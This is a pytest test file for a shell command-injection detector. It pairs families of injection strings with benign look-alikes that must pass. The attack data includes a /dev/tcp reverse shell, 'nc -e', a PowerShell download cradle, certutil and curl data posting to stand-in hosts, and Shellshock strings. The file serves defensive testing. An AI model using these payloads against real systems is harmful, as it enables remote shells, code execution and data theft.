"""Command injection: families of attacks on one argument of a shell command, and what people honestly write there."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator_security.contract import ScanContext, Sink
from orchestrator_security.scanner import Hit
from orchestrator_security.sinks.shell import ShellScanner

SHELL = ScanContext(sink="shell", trust="untrusted")


def found(text: str, context: ScanContext = SHELL) -> list[Hit]:
    scanner = ShellScanner()
    return list(scanner.scan(text, context)) if scanner.prefilter(text, context) else []


ATTACKS = {
    "separators": [
        "; uname -a", "x; uname -a", "report.pdf; cat notes", "report.pdf;id", "a.txt && hostname",
        "a.txt || hostname", "a & tasklist", "10.0.0.1 | tasklist",
        "10.0.0.1|ver", "name\nuname -a", "name\r\nhostname", "| cat ../x", "; sleep 7", "x; sleep 7 #",
        "8.8.8.8 & timeout 9", "'; hostname; '", '"; hostname; echo "',
        "x');ls -la;//", "test|sort /etc/group", "1;cat", "-x;date", "file;/usr/bin/env", "file;./run.me",
        "file|../tool/x", "a;sudo su", "a; env X=1 sh", "z && find / -perm -4000",
        "x ; tail -f /var/log/messages", "a;exec 3<>/x", "||date||", "&date&", ";uptime;", "a\tb;\tls",
    ],
    "encoded": ["x%3Bhostname", "x%0Ahostname", "%0a%0dhostname", "x%253Bhostname", "x%26%26hostname", "x%7Chostname",
        "x'\\nhostname", "x&#59;hostname", "x；hostname", "%60hostname%60"],
    "substitution": [
        "$(hostname)", "a$(hostname)b", "`hostname`", "pre`hostname`post", "${IFS}", "x${PATH:0:1}y", "$((6*7))",
        "<(hostname)", "$'\\x6c\\x73'", "a;$x", "$SHELL", "%COMSPEC%",
        "%PROGRAMFILES:~10,1%", "$env:USERNAME", "x;CMD=ls;$CMD", "$@", "a;ca$@t /x", "cat$IFS/x", "{${phpversion()}}",
    ],
    "broken names": ["h'o's'tname'", "wh\\oami", "w^h^o^a^m^i", ';"w"hoami', "a;u''name", "c\\url x", "x|w\\g\\et y",
        "/b?n/l?", ";/???/c?t x", "/???/??t /???/p??s??"],
    "braces": ["{ls,-la}", "{cat,/x/y}", "x;{ping,-c,1}", "{uname,}", "{,curl,x}"],
    "redirection": ["x > /tmp/out", "x >> ~/.profile", "x >out.php", "1> shell.php", "x < /etc/group", "2>&1",
        "bash -i >& /dev/tcp/10.0.0.1/9 0>&1", "x <<< y"],
    "functions": ["system('ls')", 'exec("ls")', "passthru('ls -la');", "shell_exec($_GET[0])", "eval('1')",
        "phpinfo()", "<?php echo 1;", "<?= 1 ?>", "<!--#exec cmd=\"ls\"-->",
                  "os.system('ls')", "__import__('os')", "Runtime.getRuntime().exec('x')",
                  "require('child_process').execSync", "print(`ls`)"],
    "shellshock": ["() { :;}; echo x", "() { :; }; /bin/sleep 9", "() { _; } >_[$($())] { ls; }"],
    "windows": ["x & dir", "x && type C:\\boot.ini", "x | findstr a", "x&net user", "& net localgroup administrators",
        "x & ping -n 9 127.0.0.1", "cmd /c dir", "cmd.exe /k x",
                "powershell -enc AAAA", "IEX(New-Object Net.WebClient).DownloadString('x')",
                "for /f %i in ('dir') do @echo %i", 'if /i not "a"=="b" echo x', "a & reg query HKLM", "| set /a 1+1",
                "&certutil -urlcache -f x", "x & C:\\Windows\\System32\\calc.exe", "Get-ChildItem env:"],
    "loops": ["x; for i in 1 2; do ls; done", "x; if true; then ls; fi", 'if [ "a" = "a" ]'],
    "options": ["--upload-pack=ls", "-oProxyCommand=ls", "--checkpoint-action=exec=ls", "x -exec ls {} +",
        "--use-compress-program=ls", "--output-document=/x"],
    "whole commands": ["wget http://a.example/x", "curl -s https://a.example/x", "nc -e sh 10.0.0.1 9", "rm -rf x",
        "perl -e 'x'", "python3 -c 'x'", "/bin/sh", "/usr/bin/whoami -x", "cat /etc/group", "uname -a"],
    "protocols": ["x\r\nRCPT TO:<a@b.example>", "x\r\nMAIL FROM:<a@b.example>", "x\nEHLO here", "x\r\nDELE 1",
        "b22 LOGIN a b", "x\r\nA01 LIST a b", ";\n.shell ls", ";.import a b"],
    "ends": ["x%0aenv", "10.0.0.1\nset", "x;date%00", "a.txt|sort\0", "'.system('ls').'", "x=1&date", "a'&date'"],
    "backticks": ["use `curl a.example`", "`date`", "see `cat ./x`", "`/bin/x`", "`$x`"],
    "closed": ["id;", "whoami|", "hostname&&", "/usr/bin/id||"],
    "form-encoded": ["x||php+-r+'x();'", "x;ls+-la+/x", "cat+/etc/group"],
    "other tools": ["ping -c 9 10.0.0.1", "ls -la /x", "type C:\\boot.ini", "start x.exe", "& calc", "awk 'BEGIN{x}'",
        "openssl s_client -connect a:1", "telnet 10.0.0.1 80", "wmic os get x", "curl -d @/x http://a.example",
        "system(pwd)", ";. /x/y.sh", "x;Start-Sleep 5", "iex(x)", "[System.Net.Dns]::Resolve('x')", "cat /et''c/gro''up",
        "wh`o`ami", "\nroute print"],
    "history": ["!-2", "x; !12", "!!"],
}  # fmt: skip

HARMLESS = [
    "c++", "a+b;c", "Odio.\nSed perspiciatis.",
    "1+1=2;ok", "sleep; rest", "cats;", "ping pong", "start the show", "awk, sed and perl",
    "use the `name` field", "see `docs/a.md` for `Config`", "``x`` and ``y``", "| Date | Name |",
    "| Sort | by `date` |", "\n\nfind attached",
    "make(1) and sort(1)", "class A { void f() { } }", "Well\n\ntime will tell",
    "report 2024.pdf", "it's", "O'Brien & Sons", "rock & roll", "AT&T", "R&D; sales", "fish & chips", "salt; pepper",
    "first; then second", "a < b", "5 > 3", "x -> y", "Map<String, Integer>",
    "costs $5", "$5.00 each", "US$ 20; EUR 19", "100% cotton", "50% off & more", "C# and F#", "what? no!", "Great!!",
    "wow! 3 apples", "!important", "*.py", "src/**/*.ts", "a*b", "**bold**", "2*3=6",
    "feature/new-login", "v1.2.3-rc.1+build", "--verbose", "-n", "--output=result.json", "-la", "key=value",
    "a=1&b=2&sort=asc", "?id=4&cat=7&page=2", "https://example.org/a?b=1&c=2#d", "user@example.org",
    "{a,b}.txt", "{1..5}", "{name}", "{'a': 1}", '{"sort": "name"}', "[x]", "[ ] todo", "(see below)", "f(x)",
    "x^2 + y^2", "10^-3", "~", "a~b", "C:\\Users\\ada\\notes.txt", "D:\\data\\sets", "\\d+\\.\\d+",
    "café; thé", "naïve & co", "日本語; 中文", "Привет; мир", "&amp; and &lt;", "&copy;cat people", "&#169;date",
    "He came; more than that he saw", "Wait; look at the time", "the host; the cat; the dog", "dogs;cats",
    "dog|cat|bird", "yes|no", "a || b", "true && false", "He said: \"find it\"; she left", "Call me; kill time",
    "line one\nline two", "Dear all,\nfind attached the minutes\n", "sort by date", "find the cat", "echo chamber",
    "which one?", "time & tide", "less is more", "top 10", "make it so", "let's test; who knows", "Smith; John",
    "09:30; 10:45", "a;b;c", "1;2;3", "x;y", "name;type;size", "Q&A", "M&Ms", "B & B", "%", "%d items",
    "100%", "%s", "50%25", "caf%C3%A9", "hello%20world", "a+b", "it`s", "l'été", "5' 11\"", "rue de l'Église",
    "'quoted'", '"quoted words"', "#42", "# heading", "no. 5", "C++", "node", "python", "ls", "git",
    "python tutorial", "curl of a vector field", "sh", "ssh-rsa AAAAB3", "docker compose", "grep", "print the date",
    "who is it", "cut & paste", "copy & paste", "drag & drop; cut & paste", "stop & go", "hide & seek",
    "search & replace", "look & feel", "plug & play", "trial & error", "black & white",
    "Marks & Spencer; Head & Shoulders", "Cat & Mouse", "cat", "date", "Monday; date to be confirmed",
    "I like it; more or less",
    "if not now, when?", "for example (this)", "if x == 1", "x = y; z = 2", "margin: 0; top: 3px; cursor: pointer",
    "color:red;top:0", "int main() { return 0; }", "<b>bold</b>", "<br/>", "a <- b", "1 << 4", "x >> 2",
    "don't; won't", "Sep 3; Oct 4", "../lib", "./a.out", "../a/../b", "node_modules/.bin/x", "2024-01-02T03:04:05Z",
    "a/b;c=d", "text/html; charset=utf-8", "max-age=3600; path=/; secure",
]  # fmt: skip


@pytest.mark.parametrize("text", [text for family in ATTACKS.values() for text in family])
def test_attacks_are_found(text: str) -> None:
    hits = found(text)
    assert hits
    assert {hit.category for hit in hits} == {"command_injection"} and {hit.owasp_llm for hit in hits} == {"LLM05"}
    assert all(hit.kind == "" and hit.rule_id.startswith("shell.") and hit.cwe in ("CWE-78", "CWE-88") for hit in hits)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_write_passes(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize("sink", ["model", "sql", "html", "path", "template"])
def test_only_what_is_bound_for_a_shell_is_looked_at(sink: Sink) -> None:
    assert not ShellScanner().prefilter("; rm -rf /", ScanContext(sink=sink))


def test_a_hit_spans_what_was_found_in_the_text_itself() -> None:
    text = "notes.txt $(hostname)"
    hit = next(hit for hit in found(text) if hit.rule_id == "shell.substitution")
    assert text[hit.start : hit.end] == "$("


def test_a_hit_in_a_decoded_form_spans_the_whole_value() -> None:
    text = "notes.txt%3bhostname"
    assert [(hit.start, hit.end) for hit in found(text)] == [(0, len(text))]


@given(st.text(alphabet=st.characters(), max_size=80))
def test_any_text_is_scanned_and_offsets_lie_in_it(text: str) -> None:
    for hit in found(text):
        assert 0 <= hit.start <= hit.end <= len(text)


@given(st.sampled_from([text for family in ATTACKS.values() for text in family if text.startswith((";", "$(", "|"))]))
def test_what_stands_before_does_not_hide_an_attack(attack: str) -> None:
    assert found(f"photo of us.jpg {attack}")


@pytest.mark.parametrize("text", ["", "\ud800", "\ud800; id", "\0", "a" * 100_000, ";" * 100_000, "\ud800$(" * 1_000])
def test_odd_texts_are_scanned(text: str) -> None:
    found(text)
